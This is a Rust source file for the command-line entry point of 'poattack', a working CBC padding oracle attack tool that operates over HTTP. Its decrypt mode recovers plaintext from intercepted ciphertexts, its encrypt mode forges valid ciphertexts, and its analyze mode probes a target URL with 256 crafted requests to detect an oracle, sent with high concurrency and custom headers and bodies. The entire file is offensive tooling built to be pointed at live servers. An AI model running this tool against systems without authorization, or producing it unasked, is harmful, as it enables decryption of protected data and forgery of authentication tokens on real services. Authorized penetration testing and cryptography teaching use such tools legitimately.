use poattack::{
    analyse_responses, decode_input, padding_oracle_decrypt, padding_oracle_encrypt,
    pkcs7_unpad, DecryptOptions, EncryptOptions, Error, HttpTransport, NetworkStats,
    OracleCaller, OracleConfig, PayloadEncoder, PayloadEncoding, Predicate, RequestTemplate,
    ResponseAnalysis,
};

use std::{path::PathBuf, process::ExitCode, time::Duration};

use base64::{engine::general_purpose::STANDARD, Engine};
use clap::{ArgAction, Args, Parser, Subcommand};
use reqwest::Method;
use tracing::{error, info, warn, Level};

#[derive(Parser, Debug)]
#[command(name = "poattack", version, about = "CBC padding oracle attack over HTTP")]
struct Cli {
    /// Requests to be sent concurrently
    #[arg(short, long, default_value_t = 128)]
    concurrency: usize,

    /// Disable caching of responses
    #[arg(long)]
    disable_cache: bool,

    /// Timeout for each request, in milliseconds
    #[arg(long, default_value_t = 30_000)]
    timeout_ms: u64,

    /// Retries for a request that failed to get a response
    #[arg(long, default_value_t = 3)]
    retries: u32,

    /// More logging (-v for debug, -vv for trace)
    #[arg(short, long, action = ArgAction::Count)]
    verbose: u8,

    #[command(subcommand)]
    mode: Mode,
}

#[derive(Subcommand, Debug)]
enum Mode {
    /// Find the plaintext for a ciphertext (e.g. hex:0123abcd)
    Decrypt {
        #[command(flatten)]
        request: RequestArgs,
        /// Ciphertext to decrypt, IV first, as hex:..., base64:... or b64:...
        ciphertext: String,
        /// Block size of the cipher on the server
        #[arg(value_parser = parse_block_size)]
        block_size: usize,
        /// How a response with valid padding looks, e.g. `e:Invalid padding` or `200`
        predicate: String,
        /// Start from the first block instead of the last
        #[arg(long = "start-from-1st-block")]
        start_from_first_block: bool,
    },
    /// Forge a ciphertext for a plaintext (e.g. foo=bar)
    Encrypt {
        #[command(flatten)]
        request: RequestArgs,
        /// Plaintext to encrypt; prefixes hex:, base64: and utf8: are understood
        plaintext: String,
        /// Block size of the cipher on the server
        #[arg(value_parser = parse_block_size)]
        block_size: usize,
        /// How a response with valid padding looks, e.g. `e:Invalid padding` or `200`
        predicate: String,
    },
    /// Survey how responses differ across 256 probes, to find a predicate
    Analyze {
        #[command(flatten)]
        request: RequestArgs,
        /// Block size of the cipher on the server
        #[arg(value_parser = parse_block_size, default_value = "8")]
        block_size: usize,
        /// Write every response to this directory
        #[arg(long)]
        save_responses: Option<PathBuf>,
    },
}

#[derive(Args, Debug)]
struct RequestArgs {
    /// URL to attack. The payload is appended unless {POPAYLOAD} appears in
    /// the URL, a header or the body
    url: String,

    /// HTTP method
    #[arg(short = 'X', long, default_value = "GET")]
    method: Method,

    /// Header to send, as `Name: value` (repeatable)
    #[arg(short = 'H', long = "header")]
    headers: Vec<String>,

    /// Request body
    #[arg(short, long)]
    data: Option<String>,

    /// Encoding of the payload: hex, hex-uppercase, base64, base64-urlsafe,
    /// base64(XYZ) or utf8
    #[arg(short = 'e', long, default_value = "hex")]
    payload_encoding: PayloadEncoding,

    /// Don't URL-encode the payload
    #[arg(long)]
    dont_urlencode_payload: bool,
}

fn parse_block_size(s: &str) -> Result<usize, String> {
    match s.parse() {
        Ok(size @ (8 | 16)) => Ok(size),
        _ => Err(format!("block size must be 8 or 16, got {s}")),
    }
}

#[tokio::main]
async fn main() -> ExitCode {
    let cli = Cli::parse();
    let level = match cli.verbose {
        0 => Level::INFO,
        1 => Level::DEBUG,
        _ => Level::TRACE,
    };
    tracing_subscriber::fmt()
        .with_max_level(level)
        .with_target(false)
        .init();

    match run(cli).await {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            error!("{e}");
            ExitCode::FAILURE
        }
    }
}

async fn run(cli: Cli) -> Result<(), Error> {
    let timeout = Duration::from_millis(cli.timeout_ms);
    let config = OracleConfig {
        concurrency: cli.concurrency,
        cache_enabled: !cli.disable_cache,
        timeout,
        max_retries: cli.retries,
        ..OracleConfig::default()
    };

    match cli.mode {
        Mode::Decrypt {
            request,
            ciphertext,
            block_size,
            predicate,
            start_from_first_block,
        } => {
            let ciphertext = decode_input(&ciphertext, false)?;
            let predicate = Predicate::parse(&predicate)?;
            let oracle = OracleCaller::new(build_transport(request, timeout)?, config);
            let options = DecryptOptions {
                start_from_first_block,
                ..DecryptOptions::new(block_size)
            };

            let plaintext = padding_oracle_decrypt(&oracle, &predicate, &ciphertext, &options).await;
            log_stats(&oracle.stats());
            let mut plaintext = plaintext?;
            println!("plaintext (hex): {}", hex::encode(&plaintext));
            if pkcs7_unpad(&mut plaintext).is_none() {
                warn!("recovered plaintext does not end in valid PKCS#7 padding");
            }
            println!("plaintext: {}", String::from_utf8_lossy(&plaintext));
        }
        Mode::Encrypt {
            request,
            plaintext,
            block_size,
            predicate,
        } => {
            let plaintext = decode_input(&plaintext, true)?;
            let predicate = Predicate::parse(&predicate)?;
            let oracle = OracleCaller::new(build_transport(request, timeout)?, config);

            let ciphertext = padding_oracle_encrypt(
                &oracle,
                &predicate,
                &plaintext,
                &EncryptOptions::new(block_size),
            )
            .await;
            log_stats(&oracle.stats());
            let ciphertext = ciphertext?;
            println!("ciphertext (hex): {}", hex::encode(&ciphertext));
            println!("ciphertext (base64): {}", STANDARD.encode(&ciphertext));
        }
        Mode::Analyze {
            request,
            block_size,
            save_responses,
        } => {
            let oracle = OracleCaller::new(build_transport(request, timeout)?, config);

            let analysis = analyse_responses(&oracle, block_size, save_responses.as_deref()).await;
            log_stats(&oracle.stats());
            print_analysis(&analysis?);
        }
    }
    Ok(())
}

fn build_transport(request: RequestArgs, timeout: Duration) -> Result<HttpTransport, Error> {
    let mut template = RequestTemplate::new(request.url).with_method(request.method);
    if !template.url().starts_with("http://") && !template.url().starts_with("https://") {
        warn!("URL {:?} does not start with http:// or https://", template.url());
    }
    for header in &request.headers {
        template = template.with_raw_header(header)?;
    }
    if let Some(data) = request.data {
        template = template.with_body(data);
    }
    if template.has_body() && !template.has_content_type() {
        warn!(
            "--data is set without a Content-Type header; you may want \
             application/x-www-form-urlencoded or application/json"
        );
    }
    let encoder = PayloadEncoder::new(request.payload_encoding, !request.dont_urlencode_payload);
    Ok(HttpTransport::new(template, encoder, timeout)?)
}

fn log_stats(stats: &NetworkStats) {
    info!(
        requests = stats.request_count,
        failed = stats.failed_count,
        cache_hits = stats.cache_hits,
        bytes_sent = stats.bytes_sent,
        "network: min {:?}, max {:?}, avg {:?}",
        stats.min_time.unwrap_or_default(),
        stats.max_time.unwrap_or_default(),
        stats.average_time().unwrap_or_default(),
    );
}

fn print_analysis(analysis: &ResponseAnalysis) {
    println!("status code frequencies:");
    for (status, count) in &analysis.status_codes {
        println!("  {status}: {count}");
    }
    println!("body length frequencies:");
    for (length, count) in &analysis.body_lengths {
        println!("  {length}: {count}");
    }
    println!("responses (byte, status, body length):");
    for (byte, result) in &analysis.responses {
        println!("  {byte:>3}  {}  {}", result.status, result.body.len());
    }
    if analysis.is_uniform() {
        println!("every response looked the same; there may be no padding oracle here");
    }
    if let Some(dir) = &analysis.saved_to {
        println!("responses saved to {}", dir.display());
    }
}
